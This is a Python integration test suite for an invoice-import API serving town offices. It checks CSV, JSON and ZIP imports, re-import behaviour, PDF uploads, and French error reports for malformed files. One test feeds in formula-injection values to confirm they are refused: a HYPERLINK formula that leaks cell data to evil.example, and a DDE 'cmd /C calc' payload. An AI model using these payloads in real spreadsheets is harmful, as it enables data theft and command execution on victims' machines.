"""Importing invoices through the office API, on the real processes: what goes in, what is refused, and
that a bad file imports nothing."""

from __future__ import annotations

import asyncio
import io
import json
import uuid
import zipfile
from collections.abc import AsyncIterator
from typing import Any

from services.invoices.import_format import COLUMNS, parse_amount, write_csv
from tests.invoices.helpers import (
    MANUAL_ROWS,
    activate_account,
    csv_bytes,
    import_file,
    invoice_ids_by_number,
    manual_rows,
    office,
    outbox_count,
    resident,
    unique_email,
)
from tests.support.suite import Suite, TownHandle
from tests.support.waiting import eventually

HEADER = ";".join(COLUMNS)


async def refused(suite: Suite, town: TownHandle, body: bytes, **kwargs: str) -> Any:
    answer = await import_file(suite, town, body, expect=422, **kwargs)
    error = answer["error"]
    assert error["code"] == "import_rejected"
    assert "rien n'a été importé" in error["message"]
    assert await invoice_ids_by_number(suite, town) == {}, "a refused file imports nothing"
    return error


def problems(error: Any) -> list[tuple[int, str | None, str]]:
    return [(d["line"], d["field"], d["code"]) for d in error["details"]]


# --- what goes in -----------------------------------------------------------------------------------


async def test_manual_invoices_are_imported_and_listed_newest_first_in_mes_factures(suite: Suite) -> None:
    town = await suite.create_town()
    marie, jean = unique_email("marie"), unique_email("jean")
    answer = await import_file(suite, town, csv_bytes(manual_rows(marie, jean)))
    assert {
        k: answer[k] for k in ("rows", "created", "updated", "unchanged", "skipped_paid", "debtors_changed")
    } == {
        "rows": 6,
        "created": 6,
        "updated": 0,
        "unchanged": 0,
        "skipped_paid": 0,
        "debtors_changed": 2,
    }
    assert answer["encoding"] == "utf-8"

    account = await activate_account(suite, town, marie)
    status, body = await resident(suite, town.town_id, account, "GET", "/invoices")
    assert status == 200
    assert [
        (i["issued_on"], i["due_on"], i["amount_cents"], i["number"], i["object"]) for i in body["invoices"]
    ] == [
        ("2015-10-19", "2015-10-30", 3200, "2016-001-000096", "FACTURATION"),
        ("2015-10-01", "2015-10-15", 1000, "2016-001-000037", "FACTURATION"),
        ("2015-09-02", "2016-08-31", 2500, "2015-001-001078", "FACTURATION"),
        ("2015-09-01", "2015-09-30", 1000, "2015-001-001205", "FACTURATION"),
    ]
    assert {(i["state"], i["state_label"], i["paid"]) for i in body["invoices"]} == {
        ("unpaid", "à régler", False)
    }
    assert body["totals"] == {"count": 4, "unpaid_count": 4, "unpaid_cents": 7700}
    assert body["page"] == {
        "page": 1,
        "per_page": 50,
        "total_count": 4,
        "page_count": 1,
        "has_previous": False,
        "has_next": False,
    }


async def test_reimporting_the_same_file_changes_nothing_and_publishes_nothing(suite: Suite) -> None:
    town = await suite.create_town()
    marie, jean = unique_email("marie"), unique_email("jean")
    await activate_account(suite, town, marie)  # so that the first import also alerts someone
    data = csv_bytes(manual_rows(marie, jean))
    first = await import_file(suite, town, data)
    assert (first["created"], first["alerts"]) == (6, 1)
    events_after_first = await outbox_count(suite, town)
    conn = await suite.db("invoices")
    try:
        before = await conn.fetch("SELECT * FROM invoices WHERE town_id = $1 ORDER BY number", town.town_id)
        again = await import_file(suite, town, data)
        after = await conn.fetch("SELECT * FROM invoices WHERE town_id = $1 ORDER BY number", town.town_id)
    finally:
        await conn.close()
    assert {
        k: again[k] for k in ("created", "updated", "unchanged", "debtors_changed", "alerts", "pdfs_stored")
    } == {
        "created": 0,
        "updated": 0,
        "unchanged": 6,
        "debtors_changed": 0,
        "alerts": 0,
        "pdfs_stored": 0,
    }
    assert again["checksum"] == first["checksum"]
    assert [dict(r) for r in after] == [dict(r) for r in before], "not even a timestamp moved"
    assert await outbox_count(suite, town) == events_after_first, "no event at all"


async def test_a_changed_row_updates_its_invoice_unless_it_is_paid(suite: Suite) -> None:
    town = await suite.create_town()
    marie, jean = unique_email("marie"), unique_email("jean")
    rows = manual_rows(marie, jean)
    await import_file(suite, town, csv_bytes(rows))
    status, _ = await office(suite, town, "POST", "/office/invoices/2015-001-001205/paid-elsewhere", json={})
    assert status == 200

    changed = [dict(r) for r in rows]
    changed[0]["amount"] = "26,00"  # 2015-001-001078, unpaid: updated
    changed[3]["amount"] = "99,00"  # 2015-001-001205, paid: left as it is
    changed[4]["object"] = "CANTINE OCTOBRE"  # 2015-009-000360, unpaid: updated
    answer = await import_file(suite, town, csv_bytes(changed))
    assert {
        k: answer[k] for k in ("created", "updated", "unchanged", "skipped_paid", "skipped_paid_numbers")
    } == {
        "created": 0,
        "updated": 2,
        "unchanged": 3,
        "skipped_paid": 1,
        "skipped_paid_numbers": ["2015-001-001205"],
    }
    status, listed = await office(suite, town, "GET", "/office/invoices?per_page=10")
    by_number = {i["number"]: i for i in listed["invoices"]}
    assert by_number["2015-001-001078"]["amount_cents"] == 2600
    assert by_number["2015-009-000360"]["object"] == "CANTINE OCTOBRE"
    assert (by_number["2015-001-001205"]["amount_cents"], by_number["2015-001-001205"]["state"]) == (
        1000,
        "paid_elsewhere",
    )


async def test_json_import_gives_the_same_invoices_as_the_csv(suite: Suite) -> None:
    town = await suite.create_town()
    marie, jean = unique_email("marie"), unique_email("jean")
    rows: list[dict[str, object]] = [
        {k: v for k, v in row.items() if k != "amount"} | {"amount_cents": parse_amount(row["amount"])}
        for row in manual_rows(marie, jean)
    ]
    rows[0]["debtor_emails"] = [marie]  # a list in JSON, the same set as the CSV's text
    answer = await import_file(
        suite, town, json.dumps({"invoices": rows}).encode(), content_type="application/json"
    )
    assert (answer["source"], answer["created"], answer["encoding"]) == ("json", 6, "json")
    # The same invoices as CSV afterwards: nothing to change.
    again = await import_file(suite, town, csv_bytes(manual_rows(marie, jean)))
    assert (again["unchanged"], again["debtors_changed"]) == (6, 0)


async def test_json_import_lists_bad_rows_by_position(suite: Suite) -> None:
    town = await suite.create_town()
    rows = [{"number": "2015-001-000001", "issued_on": "hier"}, {"number": "X", "amount": "1"}]
    answer = await import_file(
        suite, town, json.dumps({"invoices": rows}).encode(), content_type="application/json", expect=422
    )
    lines = {d["line"] for d in answer["error"]["details"]}
    assert lines == {1, 2}
    status, answer = await office(
        suite, town, "POST", "/office/imports", data=b"{not json", content_type="application/json"
    )
    assert (status, answer["error"]["details"][0]["code"]) == (422, "invalid_json")


async def test_an_import_publishes_debtor_events_that_reach_auth(suite: Suite) -> None:
    town = await suite.create_town()
    marie, jean = unique_email("marie"), unique_email("jean")
    rows = manual_rows(marie, jean)
    rows[4]["debtor_emails"] = rows[5]["debtor_emails"] = f"{jean}, {jean.replace('@', '.pro@')}"
    await import_file(suite, town, csv_bytes(rows))
    auth = await suite.db("auth")
    try:

        async def known() -> set[str]:
            found = await auth.fetch("SELECT email FROM known_emails WHERE town_id = $1", town.town_id)
            return {r["email"] for r in found}

        async def all_known() -> bool:
            return await known() == {marie, jean, jean.replace("@", ".pro@")}

        await eventually(all_known, what="auth knows every e-mail of the imported debtors")
        # The office drops an address: auth forgets it.
        rows[4]["debtor_emails"] = rows[5]["debtor_emails"] = jean
        answer = await import_file(suite, town, csv_bytes(rows))
        assert answer["debtors_changed"] == 1

        async def dropped() -> bool:
            return await known() == {marie, jean}

        await eventually(dropped, what="auth forgot the address the office dropped")
    finally:
        await auth.close()


async def test_zip_brings_office_pdfs_that_residents_download(suite: Suite) -> None:
    town = await suite.create_town()
    marie, jean = unique_email("marie"), unique_email("jean")
    office_pdf = b"%PDF-1.4\n% the office's own document\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("factures.csv", csv_bytes(manual_rows(marie, jean)))
        archive.writestr("pdf/2015-001-001078.pdf", office_pdf)
    answer = await import_file(suite, town, buffer.getvalue(), content_type="application/zip")
    assert (answer["source"], answer["created"], answer["pdfs_stored"]) == ("zip", 6, 1)
    again = await import_file(suite, town, buffer.getvalue(), content_type="application/zip")
    assert (again["unchanged"], again["pdfs_stored"]) == (6, 0)

    account = await activate_account(suite, town, marie)
    ids = await invoice_ids_by_number(suite, town)
    async with suite._admin.get(
        suite.url("invoices")
        + f"/towns/{town.town_id}/accounts/{account}/invoices/{ids['2015-001-001078']}/pdf",
        headers=suite.admin_headers,
    ) as response:
        assert response.status == 200
        assert await response.read() == office_pdf


async def test_office_pdf_put_for_one_invoice_is_checked(suite: Suite) -> None:
    town = await suite.create_town()
    await import_file(suite, town, csv_bytes(manual_rows(unique_email("m"), unique_email("j"))))
    pdf = b"%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF"
    status, body = await office(
        suite, town, "PUT", "/office/invoices/2015-001-001078/pdf", data=pdf, content_type="application/pdf"
    )
    assert (status, body["changed"], body["size"]) == (200, True, len(pdf))
    status, body = await office(
        suite, town, "PUT", "/office/invoices/2015-001-001078/pdf", data=pdf, content_type="application/pdf"
    )
    assert (status, body["changed"]) == (200, False)
    status, body = await office(
        suite,
        town,
        "PUT",
        "/office/invoices/2015-001-001078/pdf",
        data=b"<html>",
        content_type="application/pdf",
    )
    assert (status, body["error"]["code"]) == (422, "invalid_pdf")
    assert body["error"]["message"] == "Ce n'est pas un PDF (il doit commencer par « %PDF- »)."
    status, body = await office(
        suite, town, "PUT", "/office/invoices/2099-404/pdf", data=pdf, content_type="application/pdf"
    )
    assert (status, body["error"]["code"]) == (404, "invoice_not_found")


# --- bad files: each refused whole, every problem with its line and its French reason -----------------


async def test_file_with_a_wrong_header_is_refused_on_line_1(suite: Suite) -> None:
    town = await suite.create_town()
    error = await refused(suite, town, "Numéro;Date;Montant\n2015-001-001078;02/09/2015;25,00\n".encode())
    assert {d["code"] for d in error["details"]} == {"unknown_columns", "missing_columns"}
    assert all(d["line"] == 1 for d in error["details"])
    messages = " ".join(d["message"] for d in error["details"])
    assert "colonne(s) inconnue(s) 'Numéro', 'Date', 'Montant'" in messages
    assert "colonne(s) obligatoire(s) absente(s) : number, issued_on, amount" in messages


async def test_file_with_bad_amounts_is_refused_listing_each_line(suite: Suite) -> None:
    town = await suite.create_town()
    rows = manual_rows(unique_email("m"), unique_email("j"))
    rows[1]["amount"] = "32,001"
    rows[3]["amount"] = "dix euros"
    rows[5]["amount"] = "-37,50"
    error = await refused(suite, town, csv_bytes(rows))
    assert problems(error) == [
        (3, "amount", "invalid_amount"),
        (5, "amount", "invalid_amount"),
        (7, "amount", "invalid_amount"),
    ]
    details = error["details"]
    assert details[0]["message"].startswith("Montant invalide « 32,001 »")
    assert details[2]["message"] == "Montant négatif « -37,50 » : une facture ne peut pas être négative."
    assert error["message"].startswith("3 erreurs sur 3 lignes")


async def test_file_with_bad_dates_is_refused_listing_each_line(suite: Suite) -> None:
    town = await suite.create_town()
    rows = manual_rows(unique_email("m"), unique_email("j"))
    rows[0]["issued_on"] = "31/09/2015"
    rows[2]["due_on"] = "15-10-2015"
    rows[4]["due_on"] = "01/01/2015"
    error = await refused(suite, town, csv_bytes(rows))
    assert problems(error) == [
        (2, "issued_on", "invalid_date"),
        (4, "due_on", "invalid_date"),
        (6, "due_on", "due_before_issue"),
    ]
    assert error["details"][0]["message"] == "Date impossible « 31/09/2015 »."
    assert error["details"][1]["message"] == (
        "Date invalide « 15-10-2015 » : attendu JJ/MM/AAAA (02/09/2015) ou AAAA-MM-JJ."
    )


async def test_file_with_a_number_twice_is_refused_naming_both_lines(suite: Suite) -> None:
    town = await suite.create_town()
    rows = manual_rows(unique_email("m"), unique_email("j"))
    rows[4]["number"] = rows[1]["number"]
    error = await refused(suite, town, csv_bytes(rows))
    assert problems(error) == [(6, "number", "duplicate_number")]
    assert error["details"][0]["message"] == (
        "Le numéro 2016-001-000096 figure déjà ligne 3 : chaque facture n'apparaît qu'une fois."
    )


async def test_file_with_an_unknown_regie_is_refused(suite: Suite) -> None:
    town = await suite.create_town()
    rows = manual_rows(unique_email("m"), unique_email("j"))
    rows[5]["regie"] = "PISCINE"
    error = await refused(suite, town, csv_bytes(rows))
    assert problems(error) == [(7, "regie", "unknown_regie")]
    assert (
        error["details"][0]["message"] == "Régie inconnue « PISCINE » (régies de la commune : CENTRALE, EAU)."
    )


async def test_file_with_spreadsheet_formulas_is_refused(suite: Suite) -> None:
    town = await suite.create_town()
    rows = manual_rows(unique_email("m"), unique_email("j"))
    rows[0]["object"] = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
    rows[4]["debtor_name"] = rows[5]["debtor_name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    error = await refused(suite, town, csv_bytes(rows))
    assert problems(error) == [
        (2, "object", "formula_refused"),
        (6, "debtor_name", "formula_refused"),
        (7, "debtor_name", "formula_refused"),
    ]
    assert error["details"][0]["message"].startswith(
        "La colonne objet commence par « = » : les formules de tableur sont refusées"
    )


async def test_huge_file_is_refused_before_it_is_read(suite: Suite) -> None:
    town = await suite.create_town()
    line = "2015-001-{:06d};02/09/2015;;25,00;" + "X" * 150 + ";CENTRALE;D1;DUPONT;;;\n"
    body = (HEADER + "\n" + "".join(line.format(i % 999_999) for i in range(300_000))).encode()
    assert len(body) > 50 * 1024**2
    status, answer = await office(suite, town, "POST", "/office/imports", data=body, content_type="text/csv")
    assert status == 413
    assert answer["error"] == {
        "code": "file_too_large",
        "message": "Le fichier dépasse 50 Mo : découpez-le en plusieurs fichiers.",
    }

    async def chunked() -> AsyncIterator[bytes]:  # no Content-Length: measured once read
        for start in range(0, len(body), 1024**2):
            yield body[start : start + 1024**2]

    async with suite._admin.post(
        suite.url("invoices") + "/office/imports",
        data=chunked(),
        headers={**town.office_headers, "Content-Type": "text/csv"},
    ) as response:
        answer = await response.json()
        assert response.status == 413
    assert [d["code"] for d in answer["error"]["details"]] == ["file_too_large"]
    assert "découpez-le en plusieurs fichiers" in answer["error"]["message"]
    assert await invoice_ids_by_number(suite, town) == {}


async def test_file_with_too_many_rows_is_refused(suite: Suite) -> None:
    town = await suite.create_town()
    body = (
        HEADER + "\n" + "".join(f"N{i:07d};02/09/2015;;1;X;EAU;D1;A;;;\n" for i in range(200_001))
    ).encode()
    error = await refused(suite, town, body)
    assert error["details"] == [
        {
            "line": 200_002,
            "field": None,
            "code": "too_many_rows",
            "message": "Plus de 200000 factures dans un fichier : découpez-le en plusieurs.",
        }
    ]


async def test_latin1_file_is_read_as_windows_1252_with_a_warning(suite: Suite) -> None:
    town = await suite.create_town()
    rows = manual_rows(unique_email("m"), unique_email("j"))
    rows[4]["object"] = rows[5]["object"] = "CANTINE ÉCOLE — été"
    rows[4]["debtor_name"] = rows[5]["debtor_name"] = "MARTIN Jérôme"
    answer = await import_file(suite, town, write_csv(rows).encode("cp1252"))
    assert answer["encoding"] == "windows-1252"
    assert answer["warnings"] == [
        "Le fichier n'est pas en UTF-8 : il a été lu comme Windows-1252 (Latin-1). Vérifiez les accents."
    ]
    _, body = await office(suite, town, "GET", "/office/invoices?number=2015-009-000360")
    assert (body["invoices"][0]["object"], body["invoices"][0]["debtor_name"]) == (
        "CANTINE ÉCOLE — été",
        "MARTIN Jérôme",
    )


async def test_file_mixing_utf8_and_latin1_is_refused(suite: Suite) -> None:
    town = await suite.create_town()
    rows = manual_rows(unique_email("m"), unique_email("j"))
    rows[0]["object"] = "ÉCOLE"
    rows[4]["object"] = rows[5]["object"] = "ZZZ"
    body = csv_bytes(rows).replace(b"ZZZ", "été".encode("latin-1"))
    error = await refused(suite, town, body)
    assert problems(error) == [(6, None, "invalid_encoding")]
    assert "mélange des caractères UTF-8 et d'un autre encodage" in error["details"][0]["message"]


async def test_file_with_a_bom_is_read_as_utf8(suite: Suite) -> None:
    town = await suite.create_town()
    rows = manual_rows(unique_email("m"), unique_email("j"))
    rows[0]["object"] = "Cantine école"
    answer = await import_file(suite, town, b"\xef\xbb\xbf" + csv_bytes(rows))
    assert (answer["encoding"], answer["created"], answer["warnings"]) == ("utf-8-sig", 6, [])
    _, body = await office(suite, town, "GET", "/office/invoices?number=2015-001-001078")
    assert body["invoices"][0]["object"] == "Cantine école"


async def test_one_bad_row_among_good_ones_imports_nothing_and_publishes_nothing(suite: Suite) -> None:
    town = await suite.create_town()
    rows = manual_rows(unique_email("m"), unique_email("j"))
    rows[5]["debtor_emails"] = "jean.martin@"
    await refused(suite, town, csv_bytes(rows))
    assert await outbox_count(suite, town, "invoices.debtor_upserted") == 0


async def test_import_needs_a_known_media_type(suite: Suite) -> None:
    town = await suite.create_town()
    status, body = await office(
        suite, town, "POST", "/office/imports", data=b"x", content_type="application/vnd.ms-excel"
    )
    assert (status, body["error"]["code"]) == (415, "unsupported_media_type")


async def test_imports_of_one_town_at_once_are_applied_one_after_the_other(suite: Suite) -> None:
    town = await suite.create_town()
    data = csv_bytes(manual_rows(unique_email("m"), unique_email("j")))
    answers = await asyncio.gather(*(import_file(suite, town, data) for _ in range(4)))
    assert sorted(a["created"] for a in answers) == [0, 0, 0, 6]
    _, body = await office(suite, town, "GET", "/office/imports")
    assert len(body["imports"]) == 4


def _manual_number_set() -> set[str]:
    return {r["number"] for r in MANUAL_ROWS}


async def test_office_lists_and_filters_invoices(suite: Suite) -> None:
    town = await suite.create_town()
    await import_file(suite, town, csv_bytes(manual_rows(unique_email("m"), unique_email("j"))))
    status, body = await office(suite, town, "GET", "/office/invoices")
    assert {i["number"] for i in body["invoices"]} == _manual_number_set()
    status, body = await office(suite, town, "GET", "/office/invoices?debtor=D0002")
    assert {i["number"] for i in body["invoices"]} == {"2015-009-000360", "2015-RS-00-8001516"}
    status, body = await office(suite, town, "GET", "/office/invoices?per_page=2&page=2")
    assert (len(body["invoices"]), body["page"]["total_count"], body["page"]["page_count"]) == (2, 6, 3)
    await office(suite, town, "POST", "/office/invoices/2015-009-000360/cancel", json={"reason": "Doublon"})
    status, body = await office(suite, town, "GET", "/office/invoices?state=cancelled")
    assert [(i["number"], i["cancel_reason"]) for i in body["invoices"]] == [("2015-009-000360", "Doublon")]
    status, body = await office(suite, town, "GET", "/office/invoices?state=nope")
    assert status == 422
    status, body = await office(suite, town, "GET", f"/office/invoices/{uuid.uuid4()}")
    assert status == 404
